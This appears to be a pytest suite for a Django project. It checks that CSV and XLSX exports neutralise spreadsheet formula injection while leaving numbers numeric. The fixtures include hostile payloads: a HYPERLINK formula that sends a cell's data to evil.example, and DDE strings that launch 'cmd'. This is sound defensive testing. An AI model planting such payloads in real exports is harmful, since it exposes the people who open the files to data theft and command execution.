"""Spreadsheet formula injection: a stored text that a spreadsheet would read as a formula
(= + - @, a tab or a carriage return first) comes out of every CSV and XLSX export as text,
prefixed with an apostrophe; numbers, negative ones included, stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.exports import escape_formula
from projects.models import Project
from projects.resources import ProjectResource
from tests.factories import ProjectFactory, UserFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2,"Click")'
DDE = "+cmd|' /C calc'!A0"
AT_FORMULA = "@SUM(1+1)"
MINUS_FORMULA = "-2+3+cmd|' /C calc'!A0"
TAB_FORMULA = "\t=1+1"
CR_FORMULA = "\r=1+1"


@pytest.mark.parametrize("cell", [HYPERLINK, DDE, AT_FORMULA, MINUS_FORMULA, TAB_FORMULA, CR_FORMULA, "-", "=1"])
def test_a_text_that_starts_like_a_formula_is_prefixed(cell):
    assert escape_formula(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    ["Escaudain", "", "2026-03-01", "A=B", "'=already text", "-3.7", "-1,250.5", "+33", "-1 250,5", "1e-5", "-2E+3"],
)
def test_plain_text_and_numbers_written_as_text_are_unchanged(cell):
    assert escape_formula(cell) == cell


@pytest.mark.parametrize("cell", [None, 700, -3.7, Decimal("-12.50"), True])
def test_values_that_are_not_text_are_unchanged(cell):
    assert escape_formula(cell) is cell


@pytest.fixture
def hostile_project(db):
    return ProjectFactory(
        name=HYPERLINK,
        slug="hostile",
        municipality=DDE,
        region=AT_FORMULA,
        aliases=[MINUS_FORMULA],
        description=TAB_FORMULA,
        latitude=Decimal("40.42"),
        longitude=Decimal("-3.7"),
        capacity_mw=Decimal("700"),
    )


@pytest.fixture
def admin_client(client):
    client.force_login(UserFactory(username="chief", is_staff=True, is_superuser=True))
    return client


def admin_export(client, file_format: str) -> bytes:
    form = client.get(reverse("admin:projects_project_export")).context["form"]
    every_column = {name: "on" for name, field in form.fields.items() if hasattr(field, "resource_name")}
    response = client.post(
        reverse("admin:projects_project_export"), {"format": file_format, "resource": "0", **every_column}
    )
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_admin_csv_export_escapes_formulae_and_keeps_numbers(admin_client, hostile_project):
    rows = list(csv.DictReader(io.StringIO(admin_export(admin_client, "0").decode("utf-8-sig"))))
    (row,) = rows
    assert row["name"] == "'" + HYPERLINK
    assert row["municipality"] == "'" + DDE
    assert row["region"] == "'" + AT_FORMULA
    assert row["aliases"] == "'" + MINUS_FORMULA
    assert row["description"] == "'" + TAB_FORMULA
    # a negative number written as text is still a number for the spreadsheet
    assert row["longitude"] == "-3.70000" or float(row["longitude"]) == -3.7
    assert not row["longitude"].startswith("'")
    assert float(row["capacity_mw"]) == 700


def test_admin_xlsx_export_has_no_formula_cell_and_keeps_numbers(admin_client, hostile_project):
    sheet = load_workbook(io.BytesIO(admin_export(admin_client, "1"))).active
    header = [cell.value for cell in sheet[1]]
    values = dict(zip(header, (cell for cell in sheet[2]), strict=True))
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert values["name"].value == "'" + HYPERLINK
    assert values["municipality"].value == "'" + DDE
    assert values["description"].value == "'" + TAB_FORMULA
    assert values["longitude"].data_type == "n" and float(values["longitude"].value) == -3.7
    assert values["capacity_mw"].data_type == "n" and float(values["capacity_mw"].value) == 700
    # an empty cell stays empty (not the text "None")
    assert values["address"].value in (None, "")


def test_reimporting_an_export_keeps_the_stored_text(hostile_project):
    exported = ProjectResource().export()
    assert dict(zip(exported.headers, exported[0], strict=True))["name"] == "'" + HYPERLINK
    result = ProjectResource().import_data(exported, dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors()
    hostile_project.refresh_from_db()
    assert hostile_project.name == HYPERLINK
    assert hostile_project.municipality == DDE
    assert hostile_project.aliases == [MINUS_FORMULA]


def test_api_csv_download_escapes_formulae_and_keeps_numbers(client, hostile_project):
    response = client.get("/api/v1/projects/", {"format": "csv"})
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode()
    (row,) = csv.DictReader(io.StringIO(content))
    assert row["name"] == "'" + HYPERLINK
    assert row["municipality"] == "'" + DDE
    assert row["region"] == "'" + AT_FORMULA
    assert row["longitude"] == "-3.7"
    assert row["capacity_mw"] in ("700", "700.00")


def test_stats_csv_escapes_a_stored_code(client, db):
    # the country code is stored text: a row written past validation (raw SQL, an old import)
    # could hold a formula
    project = ProjectFactory(capacity_mw=Decimal("700"))
    Project.objects.filter(pk=project.pk).update(country="=1")
    response = client.get(reverse("projects:stats-csv", args=["capacity-by-country"]))
    assert response.status_code == 200
    (row,) = csv.DictReader(io.StringIO(response.content.decode()))
    assert row["country"] == "'=1"
    assert float(row["mw"]) == 700
